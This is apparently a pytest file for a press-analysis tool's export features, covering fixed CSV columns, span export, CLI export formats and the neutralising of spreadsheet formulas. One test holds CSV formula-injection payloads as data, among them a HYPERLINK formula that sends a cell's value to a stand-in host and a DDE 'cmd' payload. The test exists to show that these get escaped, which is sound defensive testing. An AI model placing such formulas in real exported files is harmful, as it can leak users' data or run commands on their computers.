import csv
import io
import json

from typer.testing import CliRunner

from presswatch.cli import app
from presswatch.demo import sample_paths
from presswatch.model import Document, Span
from presswatch.report.export import CSV_FIELDS, document_row, write_documents_csv, write_spans_csv

runner = CliRunner()


def _doc_with_figures(speakers: dict[str, int], title: str = "T") -> Document:
    doc = Document(text="Volkov said the road was open.", source="Mission", title=title)
    doc.spans.append(Span(0, 6, "SOURCE", "sourcing", {"kind": "named_person"}))
    doc.analyzers["sourcing"] = "1"
    doc.summaries["sourcing"] = {"attributions": 1, "named_share": 1.0, "by_kind": {"named_person": 1},
                                 "shares": {"named_person": 1.0}, "speakers": speakers}
    doc.summaries["techniques"] = {"findings": 2, "counts": {"Doubt": 1, "Loaded_Language": 1},
                                   "genre": {"label": "opinion", "confidence": 0.9, "scores": {"opinion": 0.9}}}
    return doc


def test_document_csv_has_fixed_columns_and_json_cells():
    # issue 13 item 9: a column per speaker gave 80+ columns for 5 documents, different for each data set
    a = _doc_with_figures({"Volkov": 2, "the ministry": 1})
    b = _doc_with_figures({f"Speaker {i}": 1 for i in range(40)}, title="U")
    row = document_row(a)
    assert list(row) == CSV_FIELDS
    assert row["sourcing.attributions"] == 1 and row["sourcing.named_share"] == 1.0
    assert json.loads(row["sourcing.speakers"]) == {"Volkov": 2, "the ministry": 1}
    assert json.loads(row["techniques.counts"]) == {"Doubt": 1, "Loaded_Language": 1}
    assert row["techniques.genre"] == "opinion" and row["techniques.genre_confidence"] == 0.9
    assert row["frames.labels"] == "" and row["incidents.incidents"] == ""  # not run: empty, column kept
    # nothing is lost: what no column shows is in other_figures
    assert json.loads(row["other_figures"]) == {"sourcing": {"shares": {"named_person": 1.0}},
                                                "techniques": {"genre": {"scores": {"opinion": 0.9}}}}
    headers = []
    for docs in ([a], [a, b], [Document(text="Nothing analysed here.")]):
        buf = io.StringIO()
        assert write_documents_csv(docs, buf) == len(docs)
        headers.append(buf.getvalue().splitlines()[0])
        rows = list(csv.DictReader(io.StringIO(buf.getvalue())))
        assert all(list(r) == CSV_FIELDS for r in rows)
    assert len(set(headers)) == 1 and len(CSV_FIELDS) < 40
    buf = io.StringIO()
    write_spans_csv([a], buf)
    (span,) = list(csv.DictReader(io.StringIO(buf.getvalue())))
    assert span["text"] == "Volkov" and json.loads(span["attrs"]) == {"kind": "named_person"}


def test_every_csv_cell_that_looks_like_a_formula_is_neutralised():
    from presswatch.comparison.coverage import Comparison
    from presswatch.comparison.render import to_csv
    from presswatch.report.csvsafe import safe_cell

    evil = ["=HYPERLINK(\"http://x.example/?\"&A1)", "+1+2", "-2+3", "@SUM(1)", "\tx", "\rx"]
    assert [safe_cell(v) for v in evil] == ["'" + v for v in evil]
    assert [safe_cell(v) for v in ("plain", "a=b", 5, -3, 0.5, None)] == ["plain", "a=b", 5, -3, 0.5, None]
    text = "=cmd|' /C calc'!A0 said the road was open."
    doc = Document(text=text, title="@SUM(A1:A9)", source="+Mission", authors=["-Anon"])
    doc.spans.append(Span(0, 4, "SOURCE", "sourcing", {"kind": "named_person"}))
    for write in (write_documents_csv, write_spans_csv):
        buf = io.StringIO()
        write([doc], buf)
        for row in csv.reader(io.StringIO(buf.getvalue())):
            assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in row), row
    rows = list(csv.DictReader(io.StringIO(_csv(write_documents_csv, doc))))
    assert rows[0]["title"] == "'@SUM(A1:A9)" and rows[0]["source"] == "'+Mission" and rows[0]["authors"] == "'-Anon"
    spans = list(csv.DictReader(io.StringIO(_csv(write_spans_csv, doc))))
    assert spans[0]["text"] == "'=cmd"
    comparison = Comparison(window={"since": None, "until": None}, sources=["=Outlet"], incidents=[
        {"id": "inc1", "date": "2023-06-12", "type": "-shelling", "acled_event_type": None,
         "acled_sub_event_type": None, "places": [{"place": "@Village", "place_id": "x"}], "reports": []}])
    out = list(csv.reader(io.StringIO(to_csv(comparison))))
    assert out[1][2] == "'-shelling" and out[1][5] == "'@Village" and out[1][6] == "'=Outlet"


def _csv(write, doc: Document) -> str:
    buf = io.StringIO()
    write([doc], buf)
    return buf.getvalue()


def test_export_command_all_formats(tmp_path):
    db = str(tmp_path / "s.sqlite")
    res = runner.invoke(app, ["ingest", *map(str, sample_paths()), "--db", db, "-a", "places,sourcing"])
    assert res.exit_code == 0, res.output
    res = runner.invoke(app, ["export", "--db", db])
    lines = res.stdout.strip().splitlines()
    assert res.exit_code == 0 and len(lines) == 4 and json.loads(lines[0])["schema_version"]
    out = tmp_path / "docs.csv"
    res = runner.invoke(app, ["export", "--db", db, "-f", "csv", "-o", str(out)])
    rows = list(csv.DictReader(out.open(encoding="utf-8")))
    assert res.exit_code == 0 and len(rows) == 4 and "sourcing.named_share" in rows[0]
    res = runner.invoke(app, ["export", "--db", db, "-f", "spans-csv", "--source", "Kura Valley Times"])
    spans = list(csv.DictReader(io.StringIO(res.stdout)))
    assert spans and {s["source"] for s in spans} == {"Kura Valley Times"}
    assert any(s["label"] == "PLACE" and s["text"] == "Khankendi" for s in spans)
    res = runner.invoke(app, ["export", "--db", db, "-f", "geojson"])
    fc = json.loads(res.stdout)
    assert fc["type"] == "FeatureCollection" and fc["features"]
    res = runner.invoke(app, ["export", "--db", db, "-f", "csv", "-o", str(tmp_path / "no" / "dir" / "x.csv")])
    assert res.exit_code == 2 and "cannot write" in res.stderr
